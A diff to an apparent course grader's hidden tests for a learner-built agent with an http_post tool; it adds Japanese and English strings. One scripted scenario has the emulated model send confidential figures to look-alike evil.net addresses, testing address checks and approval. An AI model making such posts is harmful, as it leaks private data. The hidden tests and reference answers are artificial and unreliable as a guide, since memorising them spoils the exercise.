@@ -7,7 +7,9 @@ learner writes ``my_agent(client, user_input, send, approve=None)``, which retur
 generator with ``get_time`` and their ``http_post`` wired in; ``send(url, body)`` is the network (a
 spy here). The scenarios below are the hidden tests: a model that posts as asked, one whose post
 nobody approves, one that tries look-alike addresses (the URL cousin of ``project-secrets``), and
-one that posts the same thing again and again.
+one that posts the same thing again and again. Their models speak the kernel's language, as do the
+user's request and the report they post, so an English hint never quotes a Japanese sentence. An
+English kernel hands out the English twin of the reference (``english_capstone.my_agent``).
 """
 
 from __future__ import annotations
@@ -20,6 +22,8 @@ import anthropic
 
 from ..emulator import call, emulated_client, last_results, reply, say
 from ..grading.spies import Recorder
+from ..text import lang
+from . import english_capstone
 from .checking import Miss, Piece, Point
 from .lesson6 import run_agent
 from .protocol import drive
@@ -54,7 +58,27 @@ def my_agent(client, user_input, send, approve=None):
 
 # --- the hidden scenarios ------------------------------------------------------------------------
 
-DAILY = ("https://hooks.example.com/daily", "日報: 問い合わせ 42 件、未解決 3 件")
+DAILY_URL = "https://hooks.example.com/daily"
+SAID = {  # the words of the request and of the scripted models, in the kernel's language
+    "ja": {
+        "ask": "日報を送って",
+        "daily": "日報: 問い合わせ 42 件、未解決 3 件",
+        "sending": "日報を送ります。",
+        "sent": "送りました。",
+        "secret": "社外秘の集計",
+        "none_sent": "どの宛先にも送れませんでした。",
+        "give_up": "あきらめます。",
+    },
+    "en": {
+        "ask": "Send the daily report",
+        "daily": "Daily report: 42 inquiries, 3 still open",
+        "sending": "I'll send the daily report.",
+        "sent": "Sent.",
+        "secret": "Internal figures, not for outside eyes",
+        "none_sent": "I couldn't send it to any of those addresses.",
+        "give_up": "I'll give up.",
+    },
+}
 LOOKALIKES = (
     "https://hooks.example.com.evil.net/daily",
     "https://hooks.example.com@evil.net/daily",
@@ -63,26 +87,35 @@ LOOKALIKES = (
 )
 
 
+def _said(what: str) -> str:
+    return SAID[lang()][what]
+
+
+def _daily() -> tuple[str, str]:
+    """The post the scenarios ask for: (url, body)."""
+    return DAILY_URL, _said("daily")
+
+
 def _done(request: dict) -> int:
     return sum(1 for m in request["messages"] if m["role"] == "assistant")
 
 
 def _posts_daily(request: dict) -> Any:
-    url, body = DAILY
-    steps = [call("get_time"), reply("日報を送ります。", call("http_post", url=url, body=body)), say("送りました。")]
+    url, body = _daily()
+    steps = [call("get_time"), reply(_said("sending"), call("http_post", url=url, body=body)), say(_said("sent"))]
     return steps[min(_done(request), 2)]
 
 
 def _tries_lookalikes(request: dict) -> Any:
     done = _done(request)
     if done < len(LOOKALIKES):
-        return call("http_post", url=LOOKALIKES[done], body="社外秘の集計")
-    return say("どの宛先にも送れませんでした。")
+        return call("http_post", url=LOOKALIKES[done], body=_said("secret"))
+    return say(_said("none_sent"))
 
 
 def _posts_again(request: dict) -> Any:
-    url, body = DAILY
-    return say("あきらめます。") if len(last_results(request)) > 3 else call("http_post", url=url, body=body)
+    url, body = _daily()
+    return say(_said("give_up")) if len(last_results(request)) > 3 else call("http_post", url=url, body=body)
 
 
 class Trial:
@@ -95,7 +128,7 @@ class Trial:
         approve = self.rec.approver(decide) if decide is not None else None
         self.miss: Miss | None = None
         try:
-            gen = fn(emulated_client(self.emulator), "日報を送って", self._send, approve)
+            gen = fn(emulated_client(self.emulator), _said("ask"), self._send, approve)
         except TypeError as exc:
             self.miss = Miss("lesson.capstone.signature", {"error": str(exc)[:80]})
             return
@@ -139,7 +172,7 @@ def _sends_when_allowed(fn) -> Miss | None:
         return trial.miss
     if "http_post" not in trial.defined():
         return Miss("lesson.capstone.not_defined")
-    if trial.sent != [DAILY]:
+    if trial.sent != [_daily()]:
         results = " ".join(str(r.get("content")) for r in trial.results() if r.get("is_error"))
         if trial.sent:
             return Miss("lesson.capstone.sent_wrong", {"sent": repr(trial.sent)[:80]})
@@ -198,4 +231,5 @@ MY_AGENT = Piece(
     ),
     my_agent,
     hint="lesson.hint.my_agent",
+    english=english_capstone.my_agent,
 )
